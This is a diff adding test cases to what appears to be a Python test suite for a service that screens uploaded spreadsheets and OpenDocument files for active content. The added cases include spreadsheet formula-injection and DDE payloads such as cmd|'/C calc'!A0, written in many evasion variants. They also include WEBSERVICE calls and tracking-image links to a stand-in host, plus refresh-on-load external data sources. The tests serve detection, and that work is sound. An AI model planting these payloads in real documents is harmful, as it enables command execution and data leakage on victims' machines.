@@ -196,6 +196,11 @@ def sheet(formula: str) -> tuple[str, str]:
     return ("xl/worksheets/sheet1.xml", f"<worksheet><c r='A1'><f>{formula}</f></c></worksheet>")
 
 
+def pivot(source: str) -> str:
+    return f"<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='{source}'/></pivotCacheDefinition>"
+
+
+MATH = "http://schemas.openxmlformats.org/officeDocument/2006/math"
 DDE_LINK = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
 
 
@@ -211,6 +216,28 @@ DDE_LINK = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></extern
         sheet('DDE("soffice";"/etc/passwd";"A1")'),
         sheet('_xlfn.WEBSERVICE("https://ailleurs.example/"&amp;A1)'),
         ("xl/workbook2.xml", "<workbook><definedName name='a'>cmd|'/C calc'!A0</definedName></workbook>"),
+        sheet("<x/>cmd|'/C calc'!A0"),
+        sheet("<x>1</x>+cmd|'/C calc'!A0"),
+        sheet("Tableau1['#]+cmd|'/C calc'!A0"),
+        sheet("Tableau1[HT | TTC]+cmd|'/C calc'!A0"),
+        sheet('{"}"}&amp;cmd|\'/C calc\'!A0&amp;""'),
+        sheet("'O''Brien'!A1+cmd|'/C calc'!A0"),
+        sheet("[[[]+cmd|'/C calc'!A0"),
+        *[
+            ("xl/worksheets/sheet1.xml", f"<x:a xmlns:x='urn:x'><x:{tag}>WEBSERVICE(A1)</x:{tag}></x:a>")
+            for tag in ("formula", "formula1", "formula2", "calculatedColumnFormula")
+        ],
+        (
+            "xl/worksheets/sheet1.xml",
+            f"<a><b xmlns:m='{MATH}'/><c xmlns:m='urn:x'><m:f>cmd|'/C calc'!A0</m:f></c></a>",
+        ),
+        (
+            "xl/worksheets/sheet1.xml",
+            f"<f xmlns:m='{MATH}'><m:f><y xmlns:m='urn:x'/></m:f>cmd|'/C calc'!A0</f>",
+        ),
+        ("xl/externalLinks/lien.bin", " " * 70000 + DDE_LINK),
+        ("xl/pivotCache/p1.xml", pivot("external")),
+        ("xl/queryTables/q1.xml", "<queryTable refreshOnLoad='true'/>"),
         ("xl/macrosheets/sheet1.xml", "<x/>"),
         ("xl/connections.xml", "<connections><connection id='1' refreshOnLoad='1'/></connections>"),
     ],
@@ -240,6 +267,12 @@ def shown_by_text(element: str) -> tuple[str, str]:
         "<o:script>Shell</o:script>",
         "<o:table-cell o:formula='of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)'/>",
         "<o:template x:href='https://ailleurs.example/m.ott'/>",
+        "<o:image href='https://ailleurs.example/traceur.png'/>",
+        "<o:rect x:href='https://ailleurs.example/traceur.png'/>",
+        "<o:image x:href='data:image/svg+xml,&lt;svg/>'/>",
+        "<o:table-cell o:formula='msoxl:=cmd|&quot;/C calc&quot;!A0'/>",
+        "<o:table-cell o:formula='ooow:DDE(A1)'/>",
+        "<o:table-cell o:formula='of:={&quot;}&quot;}+cmd|A0'/>",
     ],
 )
 async def test_an_open_document_that_shows_what_is_elsewhere(files: FileStore, element: str) -> None:
@@ -256,6 +289,9 @@ async def test_ordinary_workbooks_and_open_documents_are_kept(files: FileStore) 
         relation("hyperlink", "https://exemple.fr"),
         ("xl/media/dessin.svg", "<!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'/>"),
         ("xl/note.txt", "<pas du XML"),
+        ("xl/worksheets/sheet3.xml", sheet("SUM(Tableau1[HT | TTC],Tableau1[[#All],['#1 | L''an]])")[1]),
+        ("xl/worksheets/sheet4.xml", sheet('{1,2;3,4}+LEN("""|""")')[1]),
+        ("xl/pivotCache/p1.xml", pivot("worksheet")),
         heart="xl/workbook.xml",
     )
     text = office(
@@ -263,6 +299,8 @@ async def test_ordinary_workbooks_and_open_documents_are_kept(files: FileStore) 
             "<o:scripts/><o:a x:href='https://exemple.fr'>lien</o:a><o:image x:href='Pictures/1.png'/>"
             "<o:object x:href='./Object 1'/><o:template x:href='file:///C:/Modeles/lettre.ott'/>"
             "<o:table-cell o:formula='of:=SUM({1;2|3;4})'/>"
+            "<o:table-cell o:formula='of:=[$&apos;a | b]&apos;.A1]'/>"
+            "<o:table-cell o:formula='ooow:mean &lt;A1>|&lt;A2>'/>"
         ),
         heart="content.xml",
     )
@@ -296,6 +334,15 @@ async def test_documents_of_a_word_processor_are_kept_as_attachments_not_as_proo
         text_of(
             instruction(' HYPERLINK "https://exemple.fr" '),
             "<w:r><w:fldChar/><w:t>La DDE a répondu.</w:t></w:r>",
+        ),
+        (
+            "word/document2.xml",
+            f"<d xmlns:v='urn:v' xmlns:m='{MATH}'><v:shape href='https://exemple.fr'/>"
+            "<m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f></d>",
+        ),
+        (
+            "word/media/dessin.svg",
+            "<svg xmlns:xlink='http://x'><image xlink:href='data:image/png;base64,AA=='/></svg>",
         ),
         ("word/fontTable.xml", "<?xml version='1.0' encoding='windows-1252'?><x>é</x>".encode("cp1252")),
     )
